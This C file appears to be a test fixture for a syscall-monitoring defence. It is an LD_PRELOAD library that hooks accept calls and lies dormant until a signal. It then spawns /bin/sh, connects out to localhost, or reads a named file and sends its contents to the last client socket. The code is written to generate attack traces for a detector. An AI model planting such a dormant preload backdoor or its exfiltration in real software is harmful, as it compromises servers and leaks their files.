// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/*
 * An attacker's foothold inside a real daemon, for tests/services: an
 * LD_PRELOAD library that stays idle until it gets SCFI_SIGNAL, then acts
 * from the signal handler in the thread that took the signal.
 *
 * The daemon runs with it loaded in training too, so what the library adds
 * to a normal run (its sigaction at load time, ld.so opening it) is part of
 * the profile, and the attack's syscalls are the only difference.
 *
 * The action is chosen by SCFI_ATTACK when the daemon starts (getenv makes
 * no syscall; an unset variable leaves the handler a no-op):
 *   exec     execve /bin/sh -c 'echo ran > $SCFI_MARKER'
 *   connect  socket + connect to 127.0.0.1:$SCFI_PORT, send "pwned"
 *   exfil    openat/read/close $SCFI_FILE and write it to the last client
 *            socket this process accepted: only syscalls every daemon of
 *            the suite makes anyway, in an order it never makes them.
 * accept/accept4 are wrapped to remember that socket; the wrapper calls the
 * real function and makes no syscall of its own.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define SCFI_SIGNAL (SIGRTMIN + 5)	/* no daemon of the suite uses it */

enum attack { NONE, EXEC, CONNECT, EXFIL };

static enum attack attack;
/* copies: nginx and redis write their process titles over the
 * environment's strings */
static char marker[256], file[256];
static int port;
static volatile int last_client = -1;

static int (*real_accept)(int, struct sockaddr *, socklen_t *);
static int (*real_accept4)(int, struct sockaddr *, socklen_t *, int);

int accept(int fd, struct sockaddr *sa, socklen_t *len)
{
	int c = real_accept(fd, sa, len);

	if (c >= 0)
		last_client = c;
	return c;
}

int accept4(int fd, struct sockaddr *sa, socklen_t *len, int flags)
{
	int c = real_accept4(fd, sa, len, flags);

	if (c >= 0)
		last_client = c;
	return c;
}

static void act(int sig)
{
	char buf[256], cmd[512];
	ssize_t n;
	int fd;

	(void)sig;
	switch (attack) {
	case EXEC: {
		char *argv[] = { "sh", "-c", cmd, NULL };
		char *envp[] = { NULL };

		strcpy(cmd, "echo ran > ");
		strncat(cmd, marker, sizeof(cmd) - strlen(cmd) - 1);
		execve("/bin/sh", argv, envp);
		break;
	}
	case CONNECT: {
		struct sockaddr_in to = { .sin_family = AF_INET,
					  .sin_port = htons(port),
					  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };

		fd = socket(AF_INET, SOCK_STREAM, 0);
		if (fd >= 0 && connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0)
			n = write(fd, "pwned\n", 6);
		break;
	}
	case EXFIL:
		fd = openat(AT_FDCWD, file, O_RDONLY);
		if (fd < 0)
			break;
		n = read(fd, buf, sizeof(buf));
		close(fd);
		if (n > 0 && last_client >= 0)
			n = write(last_client, buf, n);
		break;
	case NONE:
		break;
	}
}

__attribute__((constructor)) static void payload_init(void)
{
	const char *a = getenv("SCFI_ATTACK");
	struct sigaction sa;

	real_accept = (int (*)(int, struct sockaddr *, socklen_t *))
		dlsym(RTLD_NEXT, "accept");
	real_accept4 = (int (*)(int, struct sockaddr *, socklen_t *, int))
		dlsym(RTLD_NEXT, "accept4");
	if (getenv("SCFI_MARKER"))
		snprintf(marker, sizeof(marker), "%s", getenv("SCFI_MARKER"));
	if (getenv("SCFI_FILE"))
		snprintf(file, sizeof(file), "%s", getenv("SCFI_FILE"));
	port = atoi(getenv("SCFI_PORT") ? getenv("SCFI_PORT") : "0");
	if (a && !strcmp(a, "exec") && marker[0])
		attack = EXEC;
	else if (a && !strcmp(a, "connect") && port > 0)
		attack = CONNECT;
	else if (a && !strcmp(a, "exfil") && file[0])
		attack = EXFIL;

	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = act;
	sa.sa_flags = SA_RESTART;
	sigemptyset(&sa.sa_mask);
	sigaction(SCFI_SIGNAL, &sa, NULL);
}
